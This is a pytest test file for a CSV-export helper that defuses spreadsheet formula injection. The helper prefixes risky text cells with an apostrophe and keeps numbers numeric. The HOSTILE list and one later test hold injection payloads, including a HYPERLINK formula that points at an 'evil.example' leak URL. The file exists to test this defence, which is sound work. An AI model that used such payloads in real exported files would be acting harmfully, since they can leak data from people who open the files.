"""The one rule every CSV of the app keeps (``analysis.spreadsheet``): a text cell a spreadsheet would run
as a formula gets an apostrophe in front, numbers stay numbers, and a carriage return never starts a
row of its own."""

from __future__ import annotations

import csv
import io

import pandas as pd

from analysis.spreadsheet import csv_text, defuse_cell, defused_row

HOSTILE = ['=HYPERLINK("http://evil.example/?leak","click")', "+1+2", "-1+2", "@SUM(1,2)", "\tcmd", "\rcmd"]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_each_formula_start_gets_an_apostrophe_and_plain_text_is_left_alone() -> None:
    assert [defuse_cell(text) for text in HOSTILE] == ["'" + text for text in HOSTILE]
    assert defuse_cell("＝1+2") == "'＝1+2"  # full-width, as typed with a CJK input method
    assert defuse_cell("crm software") == "crm software"
    assert defused_row(["keyword", "-1+2", -3, -0.5, None]) == ["keyword", "'-1+2", -3, -0.5, None]


def test_numbers_stay_numbers_a_sheet_can_sum_and_text_cells_are_defused() -> None:
    frame = pd.DataFrame(
        {
            "keyword": HOSTILE,
            "change": [-3, -1, 0, 2, -7, 1],
            "gap": [-0.5, -1.25, None, 3.0, 0.0, -2.0],
            "mixed": pd.Series([-3, "-3", None, 1.5, "=1", "ok"], dtype=object),
        }
    )
    rows = _rows(csv_text(frame))
    assert rows[0] == ["keyword", "change", "gap", "mixed"]
    assert [row[0] for row in rows[1:]] == ["'" + text for text in HOSTILE]
    assert [int(row[1]) for row in rows[1:]] == [-3, -1, 0, 2, -7, 1]
    assert [row[2] for row in rows[1:]] == ["-0.5", "-1.25", "", "3.0", "0.0", "-2.0"]
    assert [row[3] for row in rows[1:]] == ["-3", "'-3", "", "1.5", "'=1", "ok"]  # a number, then text


def test_a_carriage_return_inside_a_cell_is_quoted_and_rows_end_with_crlf() -> None:
    text = csv_text(pd.DataFrame({"anchor": ['ok\r=HYPERLINK("http://x")'], "n": [1]}), header=False)
    assert text == '"ok\r=HYPERLINK(""http://x"")",1\r\n'
    assert _rows(text) == [['ok\r=HYPERLINK("http://x")', "1"]]


def test_a_header_that_would_run_is_defused_too() -> None:
    assert _rows(csv_text(pd.DataFrame({"-Gap": [1]})))[0] == ["'-Gap"]
